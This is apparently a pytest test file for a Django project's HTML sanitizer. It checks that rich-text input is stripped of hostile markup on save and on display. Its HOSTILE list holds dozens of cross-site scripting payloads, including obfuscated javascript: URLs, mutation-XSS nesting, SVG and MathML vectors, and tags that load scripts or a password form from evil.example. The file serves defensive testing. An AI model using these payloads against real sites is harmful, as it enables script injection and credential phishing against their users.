"""core.richtext: the allow-list holds against hostile HTML, on save and on display."""

from html.parser import HTMLParser

import pytest
from django.template import Context, Template

from branches.models import Organization
from core.richtext import ALLOWED_TAGS, sanitize_html
from tests import factories

ALLOWED_ATTRS = {
    "a": {"href", "title", "rel"},
    "img": {"src", "alt", "width", "height"},
    "td": {"colspan", "rowspan"},
    "th": {"colspan", "rowspan"},
    "figure": {"class"},
}
FIGURE_CLASSES = {
    "image",
    "table",
    "image-style-side",
    "image-style-align-left",
    "image-style-align-center",
    "image-style-align-right",
    "image-style-block-align-left",
    "image-style-block-align-right",
    "image_resized",
}
LINK_SCHEMES = {"http", "https", "mailto", "tel"}

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.png" onerror="alert(1)" onload="alert(2)">',
    '<p onclick="alert(1)" onmouseover="alert(2)">click</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">tab</a>',
    '<a href="java&#10;script:alert(1)">newline</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">dec</a>',
    '<a href="&#x6A;avascript:alert(1)">hex</a>',
    '<a href="jav&#x0D;ascript:alert(1)">cr</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">DATA</a>',
    '<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">',
    '<img src="javascript:alert(1)">',
    '<img src="http://evil.example/track.png">',
    '<img src="//evil.example/x.png">',
    '<img src="/\\evil.example/x.png">',
    "<svg><script>alert(1)</script></svg>",
    '<svg onload="alert(1)"><circle r="5"/></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<style>body{background:url(javascript:alert(1))}</style>",
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div style="position:fixed;top:0">overlay</div>',
    "<scr<script>ipt>alert(1)</script>",
    "<<script>script>alert(1)<</script>/script>",
    "<script<script>>alert(1)</script>",
    '<img src="/media/a.png"<script>alert(1)</script>',
    '<p title="</p><script>alert(1)</script>">t</p>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">m</math>',
    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<a href="https://example.com" target="_blank" rel="opener">tab</a>',
    '<figure class="image evil" onclick="alert(1)"><img src="/media/a.png"></figure>',
    '<table background="javascript:alert(1)"><tr><td colspan="2" onclick="x">c</td></tr></table>',
    '<td colspan="2 onmouseover=alert(1)">x</td>',
    "<!--<script>alert(1)</script>-->",
    '<p id="x" class="danger" data-x="y" aria-label="z">attrs</p>',
    "<details open ontoggle=alert(1)>x</details>",
    '<video><source onerror="alert(1)"></video>',
    '<img src="https://example.com/a.png" alt="x" srcset="javascript:alert(1) 1x">',
]

BENIGN_CKEDITOR = (
    "<h2>学习计划</h2><p>Read <strong>chapter</strong> <em>two</em>, "
    '<a href="https://www.12371.cn/">this page</a> and <a href="/lessons/3/">lesson 3</a>.</p>'
    '<figure class="image image-style-align-left"><img src="/media/editor/2025/01/a.jpg" '
    'alt="Site" width="480" height="320"><figcaption>Site at 4,600 m</figcaption></figure>'
    '<figure class="table"><table><thead><tr><th colspan="2">Plan</th></tr></thead>'
    '<tbody><tr><td rowspan="2">Jan</td><td>Lesson</td></tr></tbody></table></figure>'
    "<ul><li>one</li></ul><ol><li>two</li></ol><blockquote><p>quote</p></blockquote>"
    "<pre><code>code</code></pre><hr><p>a<br>b <u>u</u> <s>s</s> <b>b</b> <i>i</i></p>"
    '<h3>h3</h3><h4>h4</h4><p><a href="mailto:branch@example.com">mail</a> '
    '<a href="tel:+8628000000">phone</a></p>'
)


class Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def parse(html: str) -> list[tuple[str, dict[str, str | None]]]:
    collector = Collector()
    collector.feed(html)
    collector.close()
    return collector.elements


def url_scheme(url: str) -> str | None:
    """The scheme a browser would see: control characters and white space removed."""
    cleaned = "".join(ch for ch in url if ord(ch) > 0x20).lower()
    head = cleaned.split("/", 1)[0].split("?", 1)[0].split("#", 1)[0]
    return head.split(":", 1)[0] if ":" in head else None


def assert_inert(html: str) -> None:
    for tag, attrs in parse(html):
        assert tag in ALLOWED_TAGS, (tag, html)
        for name, value in attrs.items():
            assert name in ALLOWED_ATTRS.get(tag, set()), (tag, name, html)
            assert not name.startswith("on")
            value = value or ""
            if name == "href":
                scheme = url_scheme(value)
                assert scheme is None or scheme in LINK_SCHEMES, (value, html)
            if name == "src":
                assert value.startswith("https://") or (
                    value.startswith("/") and not value.startswith("//")
                ), (value, html)
                assert "\\" not in value
            if name == "class":
                assert set(value.split()) <= FIGURE_CLASSES, (value, html)
            if name in {"width", "height", "colspan", "rowspan"}:
                assert value.isdigit(), (name, value)
        if tag == "a":
            assert attrs.get("rel") == "noopener noreferrer", html
    lowered = html.lower()
    for needle in ("<script", "<style", "<iframe", "<svg", "<math", "<form", "style="):
        assert needle not in lowered, (needle, html)


@pytest.mark.parametrize("dirty", HOSTILE)
def test_hostile_html_comes_out_inert(dirty):
    clean = sanitize_html(dirty)
    assert_inert(clean)


@pytest.mark.parametrize("dirty", [*HOSTILE, BENIGN_CKEDITOR])
def test_sanitising_is_idempotent(dirty):
    once = sanitize_html(dirty)
    assert sanitize_html(once) == once


def test_all_hostile_inputs_together_and_nested():
    blob = "".join(HOSTILE)
    assert_inert(sanitize_html(blob))
    assert_inert(sanitize_html("<p>" + "<div><span>".join(HOSTILE) + "</p>"))


def test_ckeditor_output_survives():
    clean = sanitize_html(BENIGN_CKEDITOR)
    assert_inert(clean)
    for kept in (
        '<figure class="image image-style-align-left">',
        'src="/media/editor/2025/01/a.jpg"',
        'alt="Site"',
        'width="480"',
        "<figcaption>Site at 4,600 m</figcaption>",
        '<figure class="table">',
        '<th colspan="2">',
        '<td rowspan="2">',
        '<a href="https://www.12371.cn/" rel="noopener noreferrer">',
        '<a href="/lessons/3/" rel="noopener noreferrer">',
        'href="mailto:branch@example.com"',
        'href="tel:+8628000000"',
        "<pre><code>code</code></pre>",
        "<h4>h4</h4>",
        "<u>u</u>",
        "<s>s</s>",
    ):
        assert kept in clean, kept


def test_specific_outcomes():
    assert sanitize_html('<a href="javascript:alert(1)">x</a>') == (
        '<a rel="noopener noreferrer">x</a>'
    )
    assert sanitize_html('<img src="https://cdn.example/a.png" alt="a">') == (
        '<img src="https://cdn.example/a.png" alt="a">'
    )
    assert (
        sanitize_html('<figure class="image evil">x</figure>') == '<figure class="image">x</figure>'
    )
    assert sanitize_html("<script>alert(1)</script>ok") == "ok"
    assert sanitize_html('<p style="color:red">red</p>') == "<p>red</p>"
    assert sanitize_html("") == ""
    assert sanitize_html(None) == ""


@pytest.mark.django_db
def test_model_field_sanitises_on_save():
    org = factories.OrganizationFactory(
        description='<p onclick="x">Hi</p><script>alert(1)</script><a href="javascript:x">l</a>'
    )
    org.refresh_from_db()
    assert org.description == '<p>Hi</p><a rel="noopener noreferrer">l</a>'


@pytest.mark.django_db
def test_filter_sanitises_rows_written_around_the_field():
    org = factories.OrganizationFactory(description="<p>ok</p>")
    # A raw update skips the field's pre_save: the display filter must still clean it.
    Organization.objects.filter(pk=org.pk).update(
        description="<p>x</p><img src=x onerror=alert(1)><script>alert(2)</script>"
        '<a href="JaVaScRiPt:alert(3)">l</a>'
    )
    org.refresh_from_db()
    assert "onerror" in org.description  # the row really is dirty
    html = Template("{% load richtext %}{{ org.description|richtext }}").render(
        Context({"org": org})
    )
    assert_inert(html)
    assert "<p>x</p>" in html
    assert "alert(2)" not in html


def test_filter_on_empty_value():
    assert (
        Template("{% load richtext %}[{{ value|richtext }}]").render(Context({"value": None}))
        == "[]"
    )
